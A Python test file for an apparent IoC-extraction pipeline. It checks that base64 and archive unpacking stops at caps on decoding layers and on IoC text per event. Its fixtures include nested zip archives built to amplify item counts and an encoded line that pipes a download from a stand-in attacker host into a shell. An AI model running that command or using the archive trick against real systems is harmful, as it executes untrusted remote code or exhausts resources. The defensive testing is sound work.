"""Decoding cannot amplify one input into an unbounded event: layers and IoC text per event are capped."""

from __future__ import annotations

import base64
import io
import zipfile

from processors.ioc.observables import ObservablesSettings, annotate_event
from processors.ioc.unpack import Base64Settings, unpack_text


def _zip(members: list[bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, member in enumerate(members):
            archive.writestr(f"m{index}", member)
    return buffer.getvalue()


def _nested_empty_archives() -> str:
    """Archives of archives of empty members: thousands of items, almost no bytes against the byte budget."""
    level = _zip([b""] * 40)
    for _ in range(2):
        level = _zip([level] * 12)
    return base64.b64encode(level).decode("ascii")


class TestLayerCap:
    def test_nested_archives_stop_at_max_layers(self) -> None:
        """12 x 12 x 40 empty members would be 5,760 items; the unpacker records max_layers and says so."""
        result = unpack_text(f"echo {_nested_empty_archives()}", settings=Base64Settings(max_layers=100))
        assert len(result.records) == 100
        assert "max_layers" in result.limits_hit

    def test_small_payloads_are_untouched(self) -> None:
        """A single base64 text layer is decoded as before, with no limit flagged."""
        payload = base64.b64encode(b"curl http://evil.example/x | sh").decode("ascii")
        result = unpack_text(f"bash -c {payload}")
        assert len(result.records) == 1
        assert result.limits_hit == []


class TestEventCaps:
    def test_layers_kept_per_event_are_capped(self) -> None:
        doc = {"process": {"command_line": f"echo {_nested_empty_archives()}"}}
        annotate_event(doc, settings=ObservablesSettings(max_layers_per_event=10))
        assert len(doc["secstream"]["decoded"]) == 10

    def test_ioc_text_kept_per_event_is_capped(self) -> None:
        """Many distinct URLs keep the shortest values within the character budget, and the cut is flagged."""
        urls = " ".join(f"http://host{i}.example.com/{'p' * (i % 50)}" for i in range(2000))
        doc = {"message": urls}
        annotate_event(doc, settings=ObservablesSettings(max_ioc_chars_per_event=5000))
        kept = [value for values in doc["secstream"]["iocs"].values() for value in values]
        assert 0 < sum(len(value) for value in kept) <= 5000
        assert "host0.example.com" in kept  # the shortest values survive
        assert "max_ioc_chars_per_event" in str(doc["secstream"])
